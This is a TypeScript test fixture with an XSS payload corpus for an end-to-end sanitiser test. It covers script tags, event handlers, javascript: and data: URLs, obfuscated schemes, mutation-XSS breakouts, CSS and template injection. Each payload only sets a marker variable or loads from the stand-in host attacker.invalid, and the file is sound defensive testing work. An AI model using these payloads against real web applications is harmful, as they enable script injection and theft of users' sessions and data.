/**
 * The XSS corpus of `e2e/xss.spec.ts`. Each payload is made for one place it goes (`id`, such
 * as `md:img-onerror`): if it ever ran, it would set `window.__pwned` to that id (a setter
 * the probe traps, so even a payload in a frame or one that throws afterwards is caught), and
 * every resource it could load is on `https://attacker.invalid/<id>`, which the probe's router
 * refuses and reports. None of them needs a network to prove anything.
 */

export const REMOTE = 'https://attacker.invalid';

export interface Payload {
  /** Where it went and what it is: `html:svg-onload`. */
  id: string;
  text: string;
}

type Maker = (run: string, remote: string, id: string) => string;

/** Script that records `id` if it runs: a bare assignment, so it works in handlers, URLs and frames alike. */
const runs = (id: string) => `__pwned='${id}'`;

/**
 * The payloads, by name. Handlers, URLs, frames, plugins, CSS, templates, mutation XSS,
 * attribute and element break-outs, and markup that loads without running anything.
 */
export const PAYLOADS: readonly (readonly [string, Maker])[] = [
  ['script', (run) => `<script>${run}</script>`],
  ['script-src', (_, remote) => `<script src="${remote}.js"></script>`],
  ['img-onerror', (run) => `<img src=x onerror="${run}">`],
  ['img-remote', (_, remote) => `<img src="${remote}.png" alt="remote">`],
  ['img-srcset', (_, remote) => `<img srcset="${remote}-1x.png 1x, ${remote}-2x.png 2x">`],
  ['svg-onload', (run) => `<svg onload="${run}"><circle r="4"/></svg>`],
  ['svg-script', (run) => `<svg><script>${run}</script></svg>`],
  ['svg-use', (_, remote) => `<svg><use href="${remote}.svg#a"/></svg>`],
  ['svg-animate-href', (run) => `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">svg link</text></a></svg>`],
  ['iframe-srcdoc', (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`],
  ['iframe-javascript', (run) => `<iframe src="javascript:parent.${run}"></iframe>`],
  ['iframe-remote', (_, remote) => `<iframe src="${remote}.html"></iframe>`],
  ['a-javascript', (run) => `<a href="javascript:${run}">javascript link</a>`],
  ['a-javascript-obfuscated', (run) => `<a href=" jav&#x09;ascr&#x0A;ipt&colon;${run}">obfuscated link</a>`],
  ['a-data', (run) => `<a href="data:text/html,&lt;script&gt;opener.${run}&lt;/script&gt;">data link</a>`],
  ['a-remote-blank', (_, remote) => `<a href="${remote}.html" target="_blank" rel="opener">remote link</a>`],
  ['onmouseover', (run) => `<b onmouseover="${run}" onclick="${run}">hover and click here</b>`],
  ['autofocus-onfocus', (run) => `<input autofocus onfocus="${run}">`],
  ['details-ontoggle', (run) => `<details open ontoggle="${run}"><summary>toggle</summary></details>`],
  ['body-onload', (run) => `<body onload="${run}">`],
  ['video-source-onerror', (run) => `<video><source onerror="${run}"></video>`],
  ['audio-remote', (_, remote) => `<audio src="${remote}.mp3" autoplay></audio>`],
  ['meta-refresh', (_, remote) => `<meta http-equiv="refresh" content="0; url=${remote}-refresh">`],
  ['base-href', (_, remote) => `<base href="${remote}/"><img src="relative.png">`],
  ['form-action', (run, remote) => `<form action="${remote}-form"><input name="q" value="x"><button formaction="javascript:${run}">send</button></form>`],
  ['object-data', (_, remote) => `<object data="${remote}.swf"></object>`],
  ['object-javascript', (run) => `<object data="javascript:${run}"></object>`],
  ['embed', (_, remote) => `<embed src="${remote}.swf">`],
  ['css-expression', (run) => `<p style="width:expression(${run})">css expression</p>`],
  ['css-url-javascript', (run) => `<p style="background:url(javascript:${run})">css javascript url</p>`],
  ['css-url-remote', (_, remote) => `<p style="background-image:url(${remote}-bg.png)">css remote url</p>`],
  ['style-import', (_, remote) => `<style>@import url("${remote}.css"); * { background: url(${remote}-style.png) }</style>`],
  ['link-stylesheet', (_, remote) => `<link rel="stylesheet" href="${remote}-link.css"><link rel="prefetch" href="${remote}-prefetch">`],
  ['template', (run) => `<template><img src=x onerror="${run}"></template>`],
  ['mxss-noscript', (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`],
  ['mxss-svg-style', (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`],
  ['mxss-math-mglyph', (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`],
  ['mxss-textarea', (run) => `<textarea></textarea><img src=x onerror=${run}></textarea>`],
  ['math-href', (run) => `<math><mi xlink:href="javascript:${run}" href="javascript:${run}">math</mi></math>`],
  ['title-breakout', (run) => `</title><img src=x onerror=${run}>`],
  ['attribute-breakout', (run) => `"><img src=x onerror=${run}>'><svg onload=${run}>`],
  ['marquee-onstart', (run) => `<marquee onstart="${run}">marquee</marquee>`],
  ['input-image', (_, remote) => `<input type="image" src="${remote}-input.png">`],
  ['data-svg-img', (run) => `<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/&gt;">`],
  ['template-literal', (run) => `\${${run}} {{constructor.constructor("${run}")()}}`],
];

/** The corpus for one path (`html`, `md`, `note`, …): every payload with its id and remote URL. */
export function payloadsFor(path: string, only?: readonly string[]): Payload[] {
  return PAYLOADS.filter(([name]) => !only || only.includes(name)).map(([name, make]) => {
    const id = `${path}:${name}`;
    return { id, text: make(runs(id), `${REMOTE}/${encodeURIComponent(id)}`, id) };
  });
}

/**
 * The ones that fit a one-line field that names a thing (a tag, a link type, an entity, a file):
 * short, each a different way out.
 */
export const SHORT = ['img-onerror', 'svg-onload', 'script', 'attribute-breakout', 'a-javascript', 'title-breakout', 'img-remote', 'mxss-noscript'] as const;

/**
 * Payloads of at most 40 characters, for names the app limits to 40 (tags, kinds, attributes,
 * counted things, link types): `path` is kept short (up to 4 characters) so that they fit.
 */
export function tiny(path: string): Payload[] {
  const run = (n: number) => `__pwned='${path}${n}'`;
  return [
    { id: `${path}1`, text: `<img src=x onerror=${run(1)}>` },
    { id: `${path}2`, text: `<svg onload=${run(2)}>` },
    { id: `${path}3`, text: `"><script>${run(3)}</script>` },
    { id: `${path}4`, text: `<a href=javascript:${run(4)}>x</a>` },
  ];
}
